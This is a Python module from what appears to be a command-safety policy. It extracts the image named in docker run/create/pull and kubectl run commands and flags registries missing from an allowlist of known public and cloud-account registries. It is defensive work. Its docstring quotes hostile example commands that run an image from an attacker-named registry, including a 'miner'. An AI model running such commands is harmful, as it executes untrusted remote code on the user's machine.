"""Containers started from an image of a registry nobody vouches for
(`docker run cr.attacker.dev/miner`, `kubectl run --image=10.0.0.5:5000/x`): the
image is code from that host, run here. Docker Hub's names without a host (`node:20`,
`bitnami/redis`) and the public registries of the big vendors, clouds and forges run
without asking, as does a registry on this machine; a private registry of the user's
own cloud account (ECR, Artifact Registry, ACR) is theirs."""

from __future__ import annotations

import re

from aegis_core.policy.containerrun import _VALUES

# Registries whose images come from a known publisher, and a cloud account's own.
_KNOWN_REGISTRY = re.compile(
    r"(?i)^(?:(?:index\.|registry-1\.)?docker\.io|ghcr\.io|quay\.io|(?:[a-z0-9-]+\.)?gcr\.io|[a-z0-9-]+\.pkg\.dev"
    r"|mcr\.microsoft\.com|public\.ecr\.aws|[0-9]+\.dkr\.ecr\.[a-z0-9-]+\.amazonaws\.com(?:\.cn)?"
    r"|[a-z0-9-]+\.azurecr\.io|registry\.k8s\.io|registry\.gitlab\.com|nvcr\.io|docker\.elastic\.co|cgr\.dev"
    r"|registry\.access\.redhat\.com|registry\.redhat\.io|registry\.fedoraproject\.org|registry\.opensuse\.org"
    r"|container-registry\.oracle\.com|docker\.pkg\.github\.com|(?:localhost|127\.0\.0\.1|\[::1\])(?::\d+)?)$")
# The verbs that start a container or fetch an image to start later.
_STARTS = (("run",), ("create",), ("container", "run"), ("container", "create"), ("pull",), ("image", "pull"))


def engine_image(texts: list[str]) -> str | None:
    """The image a `docker run/create/pull` (``texts`` after the program) starts, or None."""
    for verb in _STARTS:
        if tuple(texts[:len(verb)]) == verb:
            i = len(verb)
            break
    else:
        return None
    while i < len(texts):
        text = texts[i]
        if text == "--":
            i += 1
            break
        if not text.startswith("-"):
            break
        i += 2 if ("=" not in text and text in _VALUES) else 1
    return texts[i] if i < len(texts) else None


def kubectl_image(texts: list[str]) -> str | None:
    """The image of `kubectl run NAME --image IMG` (or `create deployment --image`)."""
    for i, text in enumerate(texts):
        if text.startswith("--image="):
            return text.split("=", 1)[1]
        if text == "--image" and i + 1 < len(texts):
            return texts[i + 1]
    return None


def unknown_registry(image: str | None) -> str | None:
    """The registry host of ``image`` when it is one of nobody's vouching, or None."""
    if not image or "$" in image or "`" in image:
        return None
    first, slash, _ = image.partition("/")
    if not slash or not ("." in first or ":" in first or first == "localhost"):
        return None  # Docker Hub
    return None if _KNOWN_REGISTRY.match(first) else first
